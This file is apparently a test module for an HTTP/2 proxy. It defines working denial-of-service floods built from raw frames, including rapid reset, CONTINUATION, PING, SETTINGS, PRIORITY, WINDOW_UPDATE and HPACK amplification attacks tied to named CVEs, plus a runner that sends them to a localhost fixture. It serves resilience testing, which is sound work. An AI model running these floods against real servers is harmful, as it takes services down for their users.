/** What attackers send over HTTP/2 to cost a server more than themselves: frames in numbers, answers never taken. */
import { constants } from 'node:http2';
import {
  connectFrames,
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  GOAWAY,
  headerBlock,
  HEADERS,
  headers,
  indexedField,
  PING,
  PRIORITY,
  requestFields,
  RST_STREAM,
  SETTINGS,
  uint32,
  WINDOW_UPDATE,
} from './frames.ts';
import type { FrameClient, Listening } from './frames.ts';
import { inLanes } from './lanes.ts';

/** Floods go to a service that others do not use: how much work its workers take on is their own affair, and so is what
 * that takes of the machine. */
export const ATTACKED_SITE = `sites:
  - hosts: [localhost]
    routes:
      - { path: /attacked, service: attacked, strip_prefix: true }
      - { path: /, service: web }
services:
  web: { command: [node, worker.mjs, '{socket}'], directory: FIXTURES, workers: 2 }
  attacked: { command: [nice, '-19', node, worker.mjs, '{socket}'], directory: FIXTURES, workers: 2 }
`;

export interface Flood {
  readonly name: string;
  /** In full. */
  readonly connections: number;
  /** At once. */
  readonly lanes: number;
  /** Of what is repeated, on each connection. */
  readonly repeats: number;
  /** Sent first. */
  begin?(target: Listening): readonly Buffer[];
  repeat(target: Listening, i: number): readonly Buffer[];
}

const PADDED = 8;
const streamOf = (i: number): number => 2 * i + 1;
const cancel = uint32(constants.NGHTTP2_CANCEL);

function get(target: Listening, stream: number, path: string, flags = END_STREAM): Buffer {
  return headers(stream, requestFields(target, path), flags);
}

function post(target: Listening, stream: number): Buffer {
  return headers(stream, requestFields(target, '/attacked/echo', { method: 'POST' }), 0);
}

const NO_WINDOW = frame(SETTINGS, 0, 0, Buffer.concat([Buffer.from([0, 4]), uint32(0)]));
/** What a header table can hold: 4,096 bytes with the 32 an entry costs and the name (RFC 7541 section 4.1). */
const LARGE_VALUE = 'y'.repeat(4_000);
const LARGE_FIELDS = 240;
const EMPTY_DATA = frame(DATA, 0, 1);
const PADDING = frame(DATA, PADDED, 1, Buffer.concat([Buffer.from([255]), Buffer.alloc(255)]));
const PING_FRAME = frame(PING, 0, 0, Buffer.alloc(8));
const SETTINGS_FRAME = frame(SETTINGS, 0, 0, Buffer.concat([Buffer.from([0, 3]), uint32(100)]));
const FIELD = headerBlock([['x-a', 'y']]);

export const FLOODS: readonly Flood[] = [
  {
    name: 'rapid reset (CVE-2023-44487)',
    // Cut off each after its first hundreds: it takes so many to send 100,000.
    connections: 400,
    lanes: 2,
    repeats: 1_000,
    repeat: (target, i) => [get(target, streamOf(i), '/attacked'), frame(RST_STREAM, 0, streamOf(i), cancel)],
  },
  {
    name: 'resets provoked (CVE-2025-8671)',
    connections: 100,
    lanes: 2,
    repeats: 1_000,
    // A second head that does not end the stream is an error of the stream, so that it is the proxy who resets.
    repeat: (target, i) => [post(target, streamOf(i)), post(target, streamOf(i))],
  },
  {
    name: 'CONTINUATION (CVE-2024-27983)',
    connections: 20,
    lanes: 10,
    repeats: 100_000,
    begin: (target) => [frame(HEADERS, END_STREAM, 1, headerBlock(requestFields(target, '/attacked')))],
    repeat: () => [frame(CONTINUATION, 0, 1, FIELD)],
  },
  {
    name: 'SETTINGS (CVE-2019-9515)',
    connections: 20,
    lanes: 10,
    repeats: 100_000,
    repeat: () => [SETTINGS_FRAME],
  },
  { name: 'PING (CVE-2019-9512)', connections: 20, lanes: 10, repeats: 100_000, repeat: () => [PING_FRAME] },
  {
    name: 'answers never taken (CVE-2019-9517)',
    connections: 100,
    lanes: 100,
    repeats: 100,
    begin: () => [NO_WINDOW],
    repeat: (target, i) => [get(target, streamOf(i), '/attacked/bytes?size=10000000')],
  },
  {
    name: 'a large field 240 times in each head',
    connections: 100,
    lanes: 100,
    repeats: 100,
    begin: (target) => [
      frame(
        HEADERS,
        END_STREAM | END_HEADERS,
        1,
        Buffer.concat([headerBlock(requestFields(target, '/attacked')), indexedField('x-a', LARGE_VALUE)]),
      ),
    ],
    repeat: (target, i) => [
      frame(
        HEADERS,
        END_STREAM | END_HEADERS,
        streamOf(i + 1),
        // RFC 7541 section 2.3.3: the newest entry of the table has the index 62.
        Buffer.concat([headerBlock(requestFields(target, '/attacked')), Buffer.alloc(LARGE_FIELDS, 0x80 | 62)]),
      ),
    ],
  },
  {
    name: 'empty DATA (CVE-2019-9518)',
    connections: 20,
    lanes: 10,
    repeats: 100_000,
    begin: (target) => [post(target, 1)],
    repeat: () => [EMPTY_DATA],
  },
  {
    name: 'DATA of padding',
    connections: 20,
    lanes: 10,
    repeats: 20_000,
    begin: (target) => [post(target, 1)],
    repeat: () => [PADDING],
  },
  {
    name: 'PRIORITY (CVE-2019-9513)',
    connections: 20,
    lanes: 10,
    repeats: 300_000,
    begin: (target) => [get(target, 1, '/attacked/hang')],
    repeat: (_target, i) => [
      frame(PRIORITY, 0, streamOf(i % 1_000), Buffer.concat([uint32(0), Buffer.from([i % 256])])),
    ],
  },
  {
    name: 'WINDOW_UPDATE, byte by byte (CVE-2019-9511)',
    connections: 20,
    lanes: 10,
    repeats: 300_000,
    begin: (target) => [NO_WINDOW, get(target, 1, '/attacked/bytes?size=10000000')],
    repeat: () => [frame(WINDOW_UPDATE, 0, 1, uint32(1))],
  },
];

export interface Flooded {
  readonly connections: number;
  /** Frames or groups of them that were sent before the proxy ended the connection. */
  readonly sent: number;
  /** Connections that heard GOAWAY. */
  readonly goaways: number;
  /** Connections that the proxy did not end. */
  readonly open: number;
}

const PATIENCE_MS = 30_000;

/** Runs an attack, of `share` of its connections and repeats. */
export async function runFlood(target: Listening, flood: Flood, share = 1): Promise<Flooded> {
  const connections = Math.max(2, Math.round(flood.connections * share));
  const repeats = Math.max(100, Math.round(flood.repeats * share));
  let sent = 0;
  let goaways = 0;
  let open = 0;
  await inLanes(Array.from({ length: connections }), Math.min(flood.lanes, connections), async () => {
    using client = await connectFrames(target);
    client.send(...(flood.begin?.(target) ?? []));
    sent += await pour(client, repeats, (i) => flood.repeat(target, i));
    await client.closed(PATIENCE_MS).catch(() => open++);
    if (client.received().some(({ type }) => type === GOAWAY)) goaways++;
  });
  return { connections, sent, goaways, open };
}

const BATCH = 64;

/** Sends as fast as the other side takes it; returns how many were sent when it ended, or all were. */
async function pour({ socket }: FrameClient, count: number, make: (i: number) => readonly Buffer[]): Promise<number> {
  let over = socket.destroyed;
  socket.once('close', () => (over = true)).once('end', () => (over = true));
  for (let i = 0; i < count; i += BATCH) {
    const parts = Array.from({ length: Math.min(BATCH, count - i) }, (_, k) => make(i + k)).flat();
    await new Promise<void>((resolve) => socket.write(Buffer.concat(parts), () => resolve()));
    if (over) return Math.min(count, i + BATCH);
  }
  return count;
}
